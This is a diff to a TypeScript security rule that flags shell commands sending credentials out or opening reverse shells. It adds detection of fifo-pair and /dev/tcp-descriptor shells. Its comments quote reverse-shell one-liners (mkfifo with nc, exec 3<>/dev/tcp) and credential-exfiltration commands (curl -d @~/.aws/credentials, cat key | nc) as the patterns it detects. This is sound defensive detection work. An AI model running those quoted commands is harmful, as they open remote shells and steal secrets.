@@ -2,7 +2,7 @@
 // (curl -d @~/.aws/credentials, tar ~/.ssh | curl -T -, cat key | nc), copying secrets to
 // remote hosts (scp, rsync, cloud cp), reverse shells (/dev/tcp, nc -e), and DNS tricks that
 // smuggle command output in a hostname. Posting ordinary data to unknown hosts is a warning.
-import type { SimpleCommand, Word } from '../shell/types.js';
+import type { Script, SimpleCommand, Word } from '../shell/types.js';
 import type { Severity } from '../types.js';
 import type { RuleContext } from './context.js';
 import { credentialRisk } from './credential-paths.js';
@@ -101,6 +101,45 @@ function pipedShell(cmd: SimpleCommand): SimpleCommand | undefined {
     for (const other of stages[i]) if ((SHELLS.has(other.name) || POWERSHELL.has(other.name)) && (executesStdin(other) || other.args.includes('-i'))) return other;
   }
   return undefined;
+}
+
+function runsInput(cmd: SimpleCommand): boolean {
+  return (SHELLS.has(cmd.name) || POWERSHELL.has(cmd.name)) && (executesStdin(cmd) || cmd.args.includes('-i'));
+}
+
+/**
+ * A shell wired to the network outside one pipeline: through files both ends open (the fifo
+ * pair of `mkfifo i o; sh -i < i > o & nc h 443 < o > i`), or through a descriptor that `exec`
+ * opened on `/dev/tcp` (`exec 3<>/dev/tcp/h/443; sh <&3 >&3`). Script-wide: the ends are
+ * separate commands.
+ */
+export function inspectWiredShells(script: Script, ctx: RuleContext): void {
+  let shellFiles: Set<string> | undefined;
+  let shellFd = false;
+  let socketFd: string | undefined;
+  const clientFiles: { name: string; files: string[] }[] = [];
+  for (const c of script.commands) {
+    if (c.redirects.length === 0) continue;
+    if (c.name === 'exec') {
+      const tcp = c.redirects.find((r) => /^\/dev\/(?:tcp|udp)\/[^/]+\//.test(r.target.text));
+      if (tcp) socketFd = tcp.target.text.split('/')[3];
+    } else if (runsInput(c)) {
+      for (const r of c.redirects) {
+        const t = r.target.text;
+        if (r.op === '<&' || r.op === '>&') {
+          if (/^(?:[3-9]|\d{2,})$/.test(t)) shellFd = true;
+        } else if (t !== '/dev/null' && !t.startsWith('/dev/std')) (shellFiles ??= new Set()).add(t);
+      }
+    } else if (streamClient(c)) {
+      clientFiles.push({ name: c.name === 'openssl' ? 'openssl s_client' : c.name, files: c.redirects.filter((r) => !r.op.includes('&')).map((r) => r.target.text) });
+    }
+  }
+  if (socketFd && shellFd) return emit(ctx, 'critical', 'reverse_shell', `A shell reads and writes a descriptor opened on /dev/tcp to ${socketFd} (a reverse shell).`, [socketFd]);
+  if (!shellFiles) return;
+  for (const c of clientFiles) {
+    const shared = c.files.find((f) => shellFiles!.has(f));
+    if (shared) return emit(ctx, 'critical', 'reverse_shell', `${c.name} and a shell share ${shared}, so the network end types into the shell and reads its output (a reverse shell).`);
+  }
 }
 
 export function inspectExfiltrationCommand(cmd: SimpleCommand, ctx: RuleContext): void {
